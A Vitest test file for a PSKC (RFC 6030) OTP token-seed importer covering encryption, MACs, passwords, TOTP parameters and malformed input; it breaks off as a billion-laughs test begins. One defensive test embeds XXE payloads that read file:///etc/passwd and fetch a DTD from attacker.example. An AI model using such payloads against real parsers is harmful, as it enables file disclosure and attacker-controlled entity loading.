import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { generateOtp } from '../../../domain/otp';
import { looksLikeXml, MIN_PBKDF2_ITERATIONS, PSKC_KEY_FIELD, PSKC_PASSWORD_FIELD } from '../../../seeds/pskc';
import { buildEncryptedPskc } from '../../support/pskc-builder';
import {
  edit,
  expectRfcToken,
  FIGURE10,
  FIGURE3,
  FIGURE6,
  FIGURE7,
  figure6WithMac,
  flipBase64,
  hex,
  parse,
  refusal,
  RFC_PSK,
  RFC_SEED,
  rfcPskCbc,
  TOTP60,
} from './pskc-fixtures';

describe('looksLikeXml', () => {
  it('is true for anything that starts as XML, whatever its root, after a BOM and white space', () => {
    expect(looksLikeXml(FIGURE3)).toBe(true);
    expect(looksLikeXml(`\uFEFF  ${TOTP60}`)).toBe(true);
    expect(looksLikeXml('<?xml version="1.0"?><KeyContainers/>')).toBe(true);
    expect(looksLikeXml('<html><KeyContainer/></html>')).toBe(true);
    expect(looksLikeXml('<!-- unterminated <KeyContainer>')).toBe(true);
  });

  it('is false for CSV and empty content', () => {
    expect(looksLikeXml('serial,secret,type,digits\nAB1234567890,3132,hotp,6\n')).toBe(false);
    expect(looksLikeXml('')).toBe(false);
    expect(looksLikeXml('\uFEFF \n')).toBe(false);
  });
});

describe('RFC 6030 examples', () => {
  it('Figure 3: plain HOTP secret, 8 digits, counter 0 — codes are the RFC 4226 vectors', () => {
    expectRfcToken(parse(FIGURE3), '12345678');
  });

  it("the RFC's own serial 987654321 is refused: the bank's serials are 12 alphanumerics", () => {
    const e = refusal(edit(FIGURE3, '<SerialNo>000987654321<', '<SerialNo>987654321<'));
    expect(e.message).toBe('1件目のKeyPackage（Id=12345678、シリアル番号 987654321）: シリアル番号「987654321」は英数字12桁ではありません');
  });

  it("checks each serial by the branch's rule: a maker's 13 digits under 数字13桁, and nothing else", () => {
    const thirteen = edit(FIGURE3, '<SerialNo>000987654321<', '<SerialNo>0009876543210<');
    expect(parse(thirteen, { serialFormat: 'DIGITS_13' }).map((r) => r.serial)).toEqual(['0009876543210']);
    expect(refusal(thirteen).message).toContain('シリアル番号「0009876543210」は英数字12桁ではありません');
    expect(refusal(FIGURE3, { serialFormat: 'DIGITS_13' }).message).toContain('シリアル番号「000987654321」は数字13桁ではありません');
  });

  it('Figure 6: AES-128-CBC with the RFC pre-shared key decrypts to "12345678901234567890"', () => {
    expectRfcToken(parse(FIGURE6, { preSharedKey: RFC_PSK }), '12345678');
  });

  // Figure 10's keys are valid in May (1, 2), March (3) and April 2006 (4): at no time are all four.
  it('Figure 10 (bulk) in May 2006: the third key has expired, so the whole file is refused', () => {
    expect(refusal(FIGURE10, { now: new Date('2006-05-15T00:00:00Z') }).message).toBe(
      '3件目のKeyPackage（Id=3、シリアル番号 000009999999）: 鍵の有効期限（Policy/ExpiryDate 2006-03-31T00:00:00Z）を過ぎているため、取り込めません',
    );
    const firstTwo = `${FIGURE10.slice(0, FIGURE10.indexOf('<KeyPackage>', FIGURE10.indexOf('Id="2"')))}</KeyContainer>\n`;
    expect(parse(firstTwo, { now: new Date('2006-05-15T00:00:00Z') }).map((r) => [r.serial, r.keyId])).toEqual([
      ['000000654321', '1'],
      ['000000123456', '2'],
    ]);
  });

  it('Figure 10 in April 2006: the first key has not started yet', () => {
    expect(refusal(FIGURE10, { now: new Date('2006-04-15T00:00:00Z') }).message).toBe(
      '1件目のKeyPackage（Id=1、シリアル番号 000000654321）: 鍵の使用開始日時（Policy/StartDate 2006-05-01T00:00:00Z）より前のため、まだ取り込めません',
    );
  });

  it('Figure 10 without its policies: the RFC repeats serial 9999999 in packages 3 and 4 — the whole file is refused', () => {
    const timeless = FIGURE10.replace(/<Policy>[\s\S]*?<\/Policy>/g, '');
    expect(refusal(timeless).message).toBe(
      '4件目のKeyPackage（Id=4、シリアル番号 000009999999）: シリアル番号 000009999999 が3件目のKeyPackageと重複しています',
    );
    // Without the duplicate the other packages import, in file order.
    const three = `${timeless.slice(0, timeless.lastIndexOf('<KeyPackage>'))}</KeyContainer>\n`;
    expect(parse(three).map((r) => [r.serial, r.keyId])).toEqual([
      ['000000654321', '1'],
      ['000000123456', '2'],
      ['000009999999', '3'],
    ]);
  });
});

describe('encrypted values: MAC before decryption, keys', () => {
  const PACKAGE = '1件目のKeyPackage（Id=12345678、シリアル番号 000987654321）';
  const VALUE_MAC = 'Su+NvtQfmvfJzF6bmQiJqoLRExc=';
  const CIPHER = 'AAECAwQFBgcICQoLDA0OD+cIHItlB3Wra1DUpxVvOx2lef1VmNPCMl8jwZqIUqGv';
  const NOT_THE_KEY = 'シークレットのMACが一致しません。ファイルが改ざん・破損しているか、誤って作られています。トークン業者にファイルの再送を依頼してください';

  it('a ValueMAC with one bit flipped is refused, naming the package', () => {
    const e = refusal(edit(FIGURE6, VALUE_MAC, flipBase64(VALUE_MAC, 7)), { preSharedKey: RFC_PSK });
    expect(e.message).toBe(`${PACKAGE}: ${NOT_THE_KEY}`);
    expect(e.field).toBeUndefined();
  });

  it('a MAC over the plaintext (a writer\'s mistake) is the value\'s: the MAC key decrypted, so the key is not blamed', () => {
    const e = refusal(figure6WithMac({ over: RFC_SEED }), { preSharedKey: RFC_PSK });
    expect(e.message).toBe(`${PACKAGE}: ${NOT_THE_KEY}`);
    expect(e.field).toBeUndefined();
  });

  it('a MAC key whose padding a wrong key could have passed (1 byte in 256) does not confirm the key: a mismatch still names the key', () => {
    const lucky = new Uint8Array(randomBytes(31)); // 31 bytes in 32: one byte of padding
    expect(refusal(figure6WithMac({ macKey: lucky, over: RFC_SEED }), { preSharedKey: RFC_PSK }).message).toBe(
      `${PACKAGE}: シークレットのMACが一致しません。事前共有鍵が違うか、ファイルが改ざん・破損しています`,
    );
    // Such a key is still a MAC key: with its MACs right the file imports …
    expectRfcToken(parse(figure6WithMac({ macKey: lucky }), { preSharedKey: RFC_PSK }), '12345678');
    // … and a MAC it verifies confirms the key, so a value that then does not decrypt is the value's.
    const unpadded = rfcPskCbc(Buffer.alloc(16), false); // its last byte, 0, is no PKCS#7 padding
    expect(refusal(figure6WithMac({ macKey: lucky, secretCipher: unpadded }), { preSharedKey: RFC_PSK }).message).toBe(
      `${PACKAGE}: シークレットを復号できません。ファイルが改ざん・破損しています`,
    );
  });

  it.each([
    ['the IV', 3],
    ['the ciphertext', 20],
    ['the last (padding) block', 47],
  ])('a flipped bit in %s is caught by the MAC, not by decryption', (_what, index) => {
    const e = refusal(edit(FIGURE6, CIPHER, flipBase64(CIPHER, index)), { preSharedKey: RFC_PSK });
    expect(e.message).toContain(`${PACKAGE}: シークレットのMACが一致しません`);
  });

  it('a wrong pre-shared key is refused as the file\'s key (the MAC key does not decrypt), pointing at the key field', () => {
    const wrong = hex('12345678901234567890123456789013');
    const e = refusal(FIGURE6, { preSharedKey: wrong });
    expect(e.field).toBe(PSKC_KEY_FIELD);
    expect(e.message).toBe('MAC鍵（MACMethod/MACKey）を事前共有鍵で復号できません。事前共有鍵が違うか、ファイルが壊れています');
  });

  it('an encrypted file without a key asks for the pre-shared key of the length its cipher needs', () => {
    const e = refusal(FIGURE6, {});
    expect(e.field).toBe(PSKC_KEY_FIELD);
    expect(e.message).toBe('シードが AES-128-CBC で暗号化されています。トークン業者から別途届いた事前共有鍵（16進数32桁）を入力してください');
  });

  it('a key of the wrong length for the file\'s cipher is refused, saying the length the file needs', () => {
    const e = refusal(FIGURE6, { preSharedKey: RFC_PSK.subarray(0, 15) });
    expect(e.field).toBe(PSKC_KEY_FIELD);
    expect(e.message).toBe(
      'このファイルは AES-128-CBC で暗号化されています。事前共有鍵は16進数32桁（16バイト）で入力してください（入力された鍵は16進数30桁です）',
    );
  });

  it('a plain file that carries a MACMethod needs no key', () => {
    const macMethod = FIGURE6.slice(FIGURE6.indexOf('<MACMethod'), FIGURE6.indexOf('</MACMethod>') + '</MACMethod>'.length);
    const plain = edit(FIGURE3, '<KeyPackage>', `${macMethod}<KeyPackage>`).replace('xmlns="urn:ietf:params:xml:ns:keyprov:pskc"', '$& xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"');
    expectRfcToken(parse(plain), '12345678');
  });

  it('an encrypted value without ValueMAC is refused', () => {
    const noMac = edit(FIGURE6, /<ValueMAC>[^<]*<\/ValueMAC>/, '');
    expect(refusal(noMac, { preSharedKey: RFC_PSK }).message).toBe(
      `${PACKAGE}: シークレットにMAC（ValueMAC）がありません。MACで検証できない暗号化された値は取り込めません`,
    );
  });

  it('a file without MACMethod is refused for encrypted values', () => {
    const noMethod = edit(FIGURE6, /<MACMethod[\s\S]*<\/MACMethod>/, '');
    expect(refusal(noMethod, { preSharedKey: RFC_PSK }).message).toContain('MAC方式（MACMethod）がファイルにない');
  });

  it('unknown encryption and MAC algorithms are refused, naming what is supported', () => {
    const des = FIGURE6.replace(/xmlenc#aes128-cbc/g, 'xmlenc#tripledes-cbc');
    expect(refusal(des, { preSharedKey: RFC_PSK }).message).toBe(
      '暗号化された値: 暗号化方式「http://www.w3.org/2001/04/xmlenc#tripledes-cbc」には対応していません' +
        '（AES-128-CBC、AES-128鍵ラップ、AES-192-CBC、AES-192鍵ラップ、AES-256-CBC、AES-256鍵ラップ のみ）',
    );
    const md5 = edit(FIGURE6, 'xmldsig#hmac-sha1', 'xmldsig#hmac-md5');
    expect(refusal(md5, { preSharedKey: RFC_PSK }).message).toBe(
      'MAC方式「http://www.w3.org/2000/09/xmldsig#hmac-md5」は、このシステムが知っている名前ではありません。' +
        '読めるのは HMAC-SHA1、HMAC-SHA224、HMAC-SHA256、HMAC-SHA384、HMAC-SHA512 の決まった名前（URI）だけです',
    );
  });

  it('a known HMAC under another name (xmldsig-more#hmac-sha1) is refused, saying how that HMAC is written', () => {
    const more = edit(FIGURE6, '2000/09/xmldsig#hmac-sha1', '2001/04/xmldsig-more#hmac-sha1');
    expect(refusal(more, { preSharedKey: RFC_PSK }).message).toBe(
      'MAC方式「http://www.w3.org/2001/04/xmldsig-more#hmac-sha1」は、このシステムが知っている名前ではありません。' +
        'HMAC-SHA1 は「http://www.w3.org/2000/09/xmldsig#hmac-sha1」と書かれている必要があります',
    );
    const bare = edit(FIGURE6, 'http://www.w3.org/2000/09/xmldsig#hmac-sha1', 'HMAC-SHA256');
    expect(refusal(bare, { preSharedKey: RFC_PSK }).message).toContain(
      'HMAC-SHA256 は「http://www.w3.org/2001/04/xmldsig-more#hmac-sha256」と書かれている必要があります',
    );
  });

  it('MACs in HMAC-SHA224, -SHA384 and -SHA512 (RFC 6931 names) are checked and import', () => {
    expect(figure6WithMac()).toBe(FIGURE6); // the helper remakes the RFC's MAC
    for (const bits of [224, 384, 512]) {
      const uri = `http://www.w3.org/2001/04/xmldsig-more#hmac-sha${bits}`;
      expectRfcToken(parse(figure6WithMac({ uri, hash: `sha${bits}` }), { preSharedKey: RFC_PSK }), '12345678');
      // A MAC made by another hash than the one named does not pass.
      expect(refusal(figure6WithMac({ uri, hash: 'sha256' }), { preSharedKey: RFC_PSK }).message).toContain(`${PACKAGE}: シークレットのMACが一致しません`);
    }
  });

});

describe('many encrypted KeyPackages', () => {
  const psk = new Uint8Array(randomBytes(16));
  const tokens = Array.from({ length: 25 }, (_, i) => ({
    serial: `MG${String(i + 1).padStart(10, '0')}`,
    id: String(1000 + i),
    secret: new Uint8Array(randomBytes(20)),
    totp: i % 5 === 4,
    counter: i % 5 === 4 ? undefined : i,
  }));
  const xml = buildEncryptedPskc(psk, tokens);

  it('imports every package with its own secret, encrypted counters included', () => {
    const records = parse(xml, { preSharedKey: psk });
    expect(records).toHaveLength(25);
    records.forEach((r, i) => {
      const t = tokens[i];
      if (!t) throw new Error('no token');
      expect(r.serial).toBe(t.serial);
      expect(r.keyId).toBe(t.id);
      expect(r.secret).toEqual(t.secret);
      expect(r.params.algorithm).toBe(t.totp ? 'TOTP' : 'HOTP');
      expect(r.params.counter).toBe(t.totp ? 0 : i);
    });
  });

  it('one tampered package refuses the whole file, naming that package', () => {
    const third = tokens[2];
    if (!third) throw new Error('no token');
    const at = xml.indexOf(`<SerialNo>${third.serial}</SerialNo>`);
    const macStart = xml.indexOf('<ValueMAC>', at) + '<ValueMAC>'.length;
    const macEnd = xml.indexOf('</ValueMAC>', macStart);
    const tampered = xml.slice(0, macStart) + flipBase64(xml.slice(macStart, macEnd), 0) + xml.slice(macEnd);
    expect(refusal(tampered, { preSharedKey: psk }).message).toBe(
      `3件目のKeyPackage（Id=1002、シリアル番号 ${third.serial}）: シークレットのMACが一致しません。ファイルが改ざん・破損しているか、誤って作られています。トークン業者にファイルの再送を依頼してください`,
    );
  });

  it('another key (random) is refused as the file\'s key, naming no KeyPackage', () => {
    const e = refusal(xml, { preSharedKey: new Uint8Array(randomBytes(16)) });
    // About one wrong key in 255 still unpads the MAC key; the first ValueMAC then fails instead.
    expect([
      'MAC鍵（MACMethod/MACKey）を事前共有鍵で復号できません。事前共有鍵が違うか、ファイルが壊れています',
      '1件目のKeyPackage（Id=1000、シリアル番号 MG0000000001）: シークレットのMACが一致しません。事前共有鍵が違うか、ファイルが改ざん・破損しています',
    ]).toContain(e.message);
  });

  it('a duplicate serial among encrypted packages is refused', () => {
    const [first, second] = tokens;
    if (!first || !second) throw new Error('no token');
    const dup = buildEncryptedPskc(psk, [first, second, { ...first, id: '9999' }]);
    expect(refusal(dup, { preSharedKey: psk }).message).toBe(
      '3件目のKeyPackage（Id=9999、シリアル番号 MG0000000001）: シリアル番号 MG0000000001 が1件目のKeyPackageと重複しています',
    );
  });
});

describe('password-protected files (RFC 6030 §6.2, PBKDF2)', () => {
  const tokens = [1, 2, 3].map((n) => ({ serial: `PW000000000${n}`, id: `P${n}`, secret: new Uint8Array(randomBytes(20)), counter: n }));
  const expected = tokens.map((t) => [t.serial, t.secret, t.counter]);
  const imported = (xml: string, password: string) => parse(xml, { password }).map((r) => [r.serial, r.secret, r.params.counter]);

  it('Figure 7 with the RFC\'s password "qwerty" decrypts to "12345678901234567890"', () => {
    expectRfcToken(parse(FIGURE7, { password: 'qwerty' }), '123456');
  });

  it('without a password it asks for one; a pre-shared key does not stand in for it', () => {
    for (const opts of [{}, { preSharedKey: RFC_PSK }]) {
      const e = refusal(FIGURE7, opts);
      expect(e.field).toBe(PSKC_PASSWORD_FIELD);
      expect(e.message).toBe('このファイルはパスワードで保護されています（PBKDF2、AES-128-CBC）。トークン業者から別途届いたパスワードを入力してください');
    }
  });

  it('a wrong password is refused as the file\'s, pointing at the password field', () => {
    const e = refusal(FIGURE7, { password: 'qwertz' });
    expect(e.field).toBe(PSKC_PASSWORD_FIELD);
    expect(e.message).toBe('MAC鍵（MACMethod/MACKey）をパスワードで復号できません。パスワードが違うか、ファイルが壊れています');
  });

  it('a tampered value in a password-protected file is the value\'s once the MAC key decrypted with the password', () => {
    const mac = 'LP6xMvjtypbfT9PdkJhBZ+D6O4w=';
    expect(refusal(edit(FIGURE7, mac, flipBase64(mac, 0)), { password: 'qwerty' }).message).toBe(
      '1件目のKeyPackage（Id=123456、シリアル番号 000987654321）: シークレットのMACが一致しません。ファイルが改ざん・破損しているか、誤って作られています。トークン業者にファイルの再送を依頼してください',
    );
  });

  it('files built with PBKDF2-HMAC-SHA1 and -SHA256, AES-128 and AES-256, KeyLength given or not, import', () => {
    const password = 'ﾍﾞﾝﾀﾞｰ-2026/春';
    for (const key of [
      { password, iterations: 1_000 },
      { password, iterations: 100_000, prf: 'sha256' as const, keyBytes: 32 as const },
      { password, iterations: 20_000, keyBytes: 24 as const, keyLength: null },
    ]) {
      expect(imported(buildEncryptedPskc(key, tokens), password)).toEqual(expected);
      expect(imported(buildEncryptedPskc(key, tokens, { cipher: 'kw' }), password)).toEqual(expected);
    }
  });

  it(`fewer than ${MIN_PBKDF2_ITERATIONS} iterations, or a salt under 8 bytes, is refused as too weakly protected, password or not`, () => {
    const weak = buildEncryptedPskc({ password: 'qwerty', iterations: MIN_PBKDF2_ITERATIONS - 1 }, tokens);
    for (const opts of [{}, { password: 'qwerty' }]) {
      expect(refusal(weak, opts).message).toBe(
        'パスワードによる保護の反復回数（PBKDF2-params/IterationCount）が999回しかありません。1,000回未満のファイルは保護が弱すぎるため取り込めません。トークン業者に作り直しを依頼してください',
      );
    }
    const shortSalt = buildEncryptedPskc({ password: 'qwerty', iterations: 1_000, salt: randomBytes(7) }, tokens);
    expect(refusal(shortSalt, { password: 'qwerty' }).message).toBe(
      'パスワードによる保護のソルト（PBKDF2-params/Salt）が7バイトしかありません。8バイト未満のファイルは保護が弱すぎるため取り込めません。トークン業者に作り直しを依頼してください',
    );
  });

  it('an iteration count that would hold the terminal for long, a KeyLength that does not fit the cipher, or an unknown PRF is refused', () => {
    const many = buildEncryptedPskc({ password: 'qwerty', iterations: 1_000 }, tokens).replace('<IterationCount>1000<', '<IterationCount>50000000<');
    const started = performance.now();
    expect(refusal(many, { password: 'qwerty' }).message).toBe(
      'パスワードによる保護の反復回数（PBKDF2-params/IterationCount）が50,000,000回と多すぎるため取り込めません（5,000,000回まで）',
    );
    expect(performance.now() - started).toBeLessThan(200);
    const length = buildEncryptedPskc({ password: 'qwerty', iterations: 1_000, keyLength: 32 }, tokens);
    expect(refusal(length, { password: 'qwerty' }).message).toBe(
      '導出する鍵の長さ（PBKDF2-params/KeyLength）32バイトが、暗号化方式 AES-128-CBC の鍵の長さ（16バイト）と合いません',
    );
    const md5 = edit(FIGURE7, '<PRF/>', '<PRF Algorithm="http://www.w3.org/2001/04/xmldsig-more#hmac-md5"/>');
    expect(refusal(md5, { password: 'qwerty' }).message).toContain(
      '鍵の導出に使う関数（PBKDF2-params/PRF）「http://www.w3.org/2001/04/xmldsig-more#hmac-md5」は、このシステムが知っている名前ではありません',
    );
    const scrypt = edit(FIGURE7, 'pkcs-5v2-0#pbkdf2"', 'pkcs-5v2-0#scrypt"');
    expect(refusal(scrypt, { password: 'qwerty' }).message).toBe(
      '鍵の導出方式「http://www.rsasecurity.com/rsalabs/pkcs/schemas/pkcs-5v2-0#scrypt」には対応していません（PBKDF2 のみ）',
    );
  });
});

describe('AES-192/256 and AES key wrap', () => {
  const tokens = [1, 2, 3].map((n) => ({ serial: `KW000000000${n}`, id: `K${n}`, secret: new Uint8Array(randomBytes(20)), counter: n }));
  const imported = (xml: string, psk: Uint8Array) => parse(xml, { preSharedKey: psk }).map((r) => [r.serial, r.secret, r.params.counter]);
  const expected = tokens.map((t) => [t.serial, t.secret, t.counter]);

  it.each([24, 32])('AES-CBC with a %i-byte key imports, MACs in HMAC-SHA256 too', (bytes) => {
    const psk = new Uint8Array(randomBytes(bytes));
    expect(imported(buildEncryptedPskc(psk, tokens), psk)).toEqual(expected);
    expect(imported(buildEncryptedPskc(psk, tokens, { mac: 'sha256' }), psk)).toEqual(expected);
  });

  it('an AES-256 file asks for 64 hex digits, and says so when given 32', () => {
    const xml = buildEncryptedPskc(new Uint8Array(randomBytes(32)), tokens);
    expect(refusal(xml).message).toBe('シードが AES-256-CBC で暗号化されています。トークン業者から別途届いた事前共有鍵（16進数64桁）を入力してください');
    const e = refusal(xml, { preSharedKey: RFC_PSK });
    expect(e.field).toBe(PSKC_KEY_FIELD);
    expect(e.message).toBe(
      'このファイルは AES-256-CBC で暗号化されています。事前共有鍵は16進数64桁（32バイト）で入力してください（入力された鍵は16進数32桁です）',
    );
  });

  it.each([16, 24, 32])('AES key wrap with a %i-byte key imports without ValueMACs (RFC 5649 for the 20-byte seeds and 8-byte counters)', (bytes) => {
    const psk = new Uint8Array(randomBytes(bytes));
    expect(imported(buildEncryptedPskc(psk, tokens, { cipher: 'kw' }), psk)).toEqual(expected);
  });

  /** One KeyPackage whose secret is the given key-wrap CipherValue. */
  const wrapped = (bits: number, cipherHex: string) => `<KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc">
  <EncryptionKey><KeyName>PSK</KeyName></EncryptionKey>
  <KeyPackage><DeviceInfo><SerialNo>KW0000000001</SerialNo></DeviceInfo>
    <Key Id="1" Algorithm="urn:ietf:params:xml:ns:keyprov:pskc:hotp">
      <AlgorithmParameters><ResponseFormat Length="6" Encoding="DECIMAL"/></AlgorithmParameters>
      <Data><Secret><EncryptedValue><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#kw-aes${bits}"/>
        <CipherData><CipherValue>${Buffer.from(cipherHex, 'hex').toString('base64')}</CipherValue></CipherData>
      </EncryptedValue></Secret></Data>
    </Key></KeyPackage>
</KeyContainer>`;

  it('RFC 3394 §4.1 and RFC 5649 §6 test vectors unwrap', () => {
    const rfc3394 = wrapped(128, '1FA68B0A8112B447AEF34BD8FB5A7B829D3E862371D2CFE5');
    expect(parse(rfc3394, { preSharedKey: hex('000102030405060708090A0B0C0D0E0F') })[0]?.secret).toEqual(
      hex('00112233445566778899AABBCCDDEEFF'),
    );
    const rfc5649 = wrapped(192, '138bdeaa9b8fa7fc61f97742e72248ee5ae6ae5360d1ae6a5f54f373fa543b6a');
    expect(parse(rfc5649, { preSharedKey: hex('5840df6e29b02af1ab493b705bf16ea1ae8338f4dcc176a8') })[0]?.secret).toEqual(
      hex('c37b7e6492584340bed12207808941155068f738'),
    );
  });

  it('a wrong key for a key-wrapped file is the file\'s; a value damaged after others unwrapped is its package\'s', () => {
    const psk = new Uint8Array(randomBytes(16));
    const xml = buildEncryptedPskc(psk, tokens, { cipher: 'kw' });
    const e = refusal(xml, { preSharedKey: new Uint8Array(randomBytes(16)) });
    expect(e.field).toBe(PSKC_KEY_FIELD);
    expect(e.message).toBe('暗号化された値を事前共有鍵で復号できません。事前共有鍵が違うか、ファイルが壊れています');
    const at = xml.indexOf('<xenc:CipherValue>', xml.indexOf('KW0000000003')) + '<xenc:CipherValue>'.length;
    const end = xml.indexOf('</', at);
    const damaged = xml.slice(0, at) + flipBase64(xml.slice(at, end), 5) + xml.slice(end);
    expect(refusal(damaged, { preSharedKey: psk }).message).toBe(
      '3件目のKeyPackage（Id=K3、シリアル番号 KW0000000003）: シークレットを復号できません。ファイルが改ざん・破損しています',
    );
  });
});

describe('ResponseFormat', () => {
  const PACKAGE = '1件目のKeyPackage（Id=12345678、シリアル番号 000987654321）';
  const withCheckDigits = (value: string) => edit(FIGURE3, 'Length="8" Encoding="DECIMAL"/>', `Length="8" Encoding="DECIMAL" CheckDigits="${value}"/>`);

  it("CheckDigits absent, 'false' or '0' (white space around it allowed, as xs:boolean collapses it) is a plain code", () => {
    for (const value of ['false', '0', ' false ']) expectRfcToken(parse(withCheckDigits(value)), '12345678');
  });

  it("CheckDigits 'true' or '1' is refused as unsupported", () => {
    for (const value of ['true', '1']) {
      expect(refusal(withCheckDigits(value)).message).toBe(
        `${PACKAGE}: チェックディジット付きのワンタイムパスワード（CheckDigits）には対応していません`,
      );
    }
  });

  it('any other CheckDigits value is refused as not a boolean, naming it (a vendor writing TRUE means check digits)', () => {
    for (const value of ['TRUE', 'not really', '']) {
      expect(refusal(withCheckDigits(value)).message).toBe(
        `${PACKAGE}: チェックディジットの有無（ResponseFormat/@CheckDigits）「${value}」が true・false・1・0 のどれでもないため、読み取れません`,
      );
    }
  });
});

describe('TOTP', () => {
  it('pskc#totp with TimeInterval 60 and TimeDrift -2 (pskc: prefixed elements)', () => {
    const [rec] = parse(TOTP60);
    expect(rec).toEqual({
      serial: 'TT0000000060',
      keyId: '987654323',
      secret: RFC_SEED,
      params: { algorithm: 'TOTP', hash: 'SHA1', digits: 6, period: 60, counter: 0 },
      driftSteps: -2,
    });
    if (!rec) throw new Error('no record');
    // Time step 1 is HOTP counter 1 (RFC 4226: 287082).
    expect(generateOtp(rec.params, rec.secret, 1)).toBe('287082');
  });

  it('the RFC-style pskc:totp URI is accepted too; the time step defaults to 30', () => {
    const xml = edit(edit(TOTP60, ':pskc#totp"', ':pskc:totp"'), /<pskc:TimeInterval>[\s\S]*<\/pskc:TimeInterval>/, '');
    const [rec] = parse(xml);
    expect(rec?.params.algorithm).toBe('TOTP');
    expect(rec?.params.period).toBe(30);
  });

  it("pskc#hotp is HOTP as pskc#totp is TOTP: writers use both the ':' and the '#' form", () => {
    expectRfcToken(parse(edit(FIGURE3, ':pskc:hotp"', ':pskc#hotp"')), '12345678');
  });

  it('refuses a time step other than 30/60, a non-zero T0 and an unknown algorithm', () => {
    const place = '1件目のKeyPackage（Id=987654323、シリアル番号 TT0000000060）';
    expect(refusal(edit(TOTP60, '<pskc:PlainValue>60<', '<pskc:PlainValue>45<')).message).toBe(
      `${place}: 時間間隔（TimeInterval）45秒には対応していません（30秒か60秒）`,
    );
    expect(refusal(edit(TOTP60, '<pskc:PlainValue>0<', '<pskc:PlainValue>1700000000<')).message).toContain(
      `${place}: 基準時刻（Time）が0ではありません`,
    );
    expect(refusal(edit(TOTP60, ':pskc#totp"', ':pskc#ocra"')).message).toBe(
      `${place}: アルゴリズム「urn:ietf:params:xml:ns:keyprov:pskc#ocra」には対応していません（HOTP と TOTP のみ取り込めます）`,
    );
    expect(refusal(edit(TOTP60, 'Length="6"', 'Length="7"')).message).toContain(`${place}: 桁数`);
  });
});

describe('formats of the drafts before RFC 6030', () => {
  const DRAFT = 'このPSKCファイルは RFC 6030 以前の試案の形式です。RFC 6030 形式のファイルをトークン業者に依頼してください';
  const RFC_NS = 'xmlns="urn:ietf:params:xml:ns:keyprov:pskc"';

  it.each([
    'urn:ietf:params:xml:ns:keyprov:container', // draft-hoyer-keyprov-portable-symmetric-key-container
    'urn:ietf:params:xml:ns:keyprov:container:1.0', // later hoyer drafts, and ActivIdentity's files
    'urn:ietf:params:xml:ns:keyprov:pskc:1.0', // draft-hoyer-keyprov-pskc-algorithm-profiles
  ])('a KeyContainer in the draft namespace %s is refused as a draft, whatever its Version or content', (ns) => {
    expect(refusal(edit(FIGURE3, RFC_NS, `xmlns="${ns}"`)).message).toBe(DRAFT);
    // ActivIdentity's files write the version in lower case, and a prefixed root is read the same.
    expect(refusal(edit(edit(FIGURE3, RFC_NS, `xmlns="${ns}"`), 'Version="1.0"', 'version="1.0"')).message).toBe(DRAFT);
    expect(refusal(edit(TOTP60, 'xmlns:pskc="urn:ietf:params:xml:ns:keyprov:pskc"', `xmlns:pskc="${ns}"`)).message).toBe(DRAFT);
  });

  it("tokens in Device elements, as draft-ietf-keyprov-pskc-02 writes them in RFC 6030's own namespace and Version 1.0, are refused as a draft", () => {
    const devices = FIGURE3.replace('<KeyPackage>', '<Device>').replace('</KeyPackage>', '</Device>');
    expect(refusal(devices).message).toBe(DRAFT);
  });

  it('RFC 6030 files, in its namespace with any prefix or in none, are not taken for drafts', () => {
    expectRfcToken(parse(FIGURE3), '12345678');
    expect(parse(TOTP60)).toHaveLength(1);
    expectRfcToken(parse(edit(FIGURE3, ` ${RFC_NS}`, '')), '12345678');
    // Another namespace declared on the root, for another prefix, is not the root's.
    expectRfcToken(parse(edit(FIGURE3, RFC_NS, `${RFC_NS} xmlns:old="urn:ietf:params:xml:ns:keyprov:pskc:1.0"`)), '12345678');
  });
});

describe('malformed and hostile files', () => {
  it.each([0.25, 0.5, 0.9])('a file truncated at %s of its length is refused at the line where it ends', (fraction) => {
    const cut = FIGURE3.slice(0, Math.floor(FIGURE3.length * fraction));
    const line = cut.trimEnd().split('\n').length;
    expect(refusal(cut).message).toBe(
      `PSKCファイルが${line}行目で途中で切れています。トークン業者から届いたファイルが最後まであるか確かめてください`,
    );
  });

  it('a cut is reported where the file ends, not where the unclosed element began', () => {
    const lines = FIGURE10.split('\n');
    // Line 60 of Figure 10 is the second KeyPackage's ExpiryDate; the validator would say line 1.
    const midLine60 = `${lines.slice(0, 59).join('\n')}\n${lines[59]?.slice(0, 30)}`;
    expect(refusal(midLine60).message).toContain('60行目で途中で切れています');
    const inAttribute = FIGURE10.slice(0, FIGURE10.indexOf('xmlns=') + 'xmlns="urn:ietf'.length);
    expect(refusal(inAttribute).message).toContain('9行目で途中で切れています');
    const endOfLine = `${lines.slice(0, 30).join('\n')}\n`;
    expect(refusal(endOfLine).message).toContain('30行目で途中で切れています');
  });

  it('a file cut just before its closing tag is refused (no partial import)', () => {
    const cut = FIGURE10.slice(0, FIGURE10.lastIndexOf('</KeyContainer>'));
    expect(refusal(cut).message).toContain(`${cut.trimEnd().split('\n').length}行目で途中で切れています`);
  });

  it('a file broken in the middle is reported at the broken line, not as cut', () => {
    const broken = edit(FIGURE3, '</Manufacturer>', '</Manufacturr>');
    expect(refusal(broken).message).toBe('PSKCファイルがXMLとして正しくありません（12行目付近）。ファイルが壊れています');
  });

  it('not XML, or XML that is not a KeyContainer, is refused', () => {
    expect(refusal('serial,secret\n').message).toContain('XMLとして正しくありません');
    expect(refusal('<?xml version="1.0"?><Foo/>').message).toBe(
      'PSKCファイルではありません（最上位の要素が Foo です。PSKCファイルの最上位は KeyContainer 要素1つです）',
    );
    expect(refusal('<KeyContainer Version="2.0"/>').message).toContain('バージョン');
    expect(refusal('<KeyContainer Version="1.0"></KeyContainer>').message).toContain('1件もありません');
  });

  it('an XXE attempt is refused before parsing, without reading the file', () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE KeyContainer [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
${FIGURE3.replace('<Issuer>Issuer</Issuer>', '<Issuer>&xxe;</Issuer>').replace(/^<\?xml[^>]*>/, '')}`;
    const e = refusal(xxe);
    expect(e.message).toContain('文書型宣言（DOCTYPE／ENTITY）');
    expect(e.message).not.toContain('root:');
    // Lower case, a bare ENTITY and a parameter entity are all refused the same way.
    expect(refusal(xxe.replace('<!DOCTYPE', '<!doctype')).message).toContain('文書型宣言');
    expect(refusal(`<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">${FIGURE3}`).message).toContain('文書型宣言');
  });

  it('a billion-laughs file is refused at once', () => {
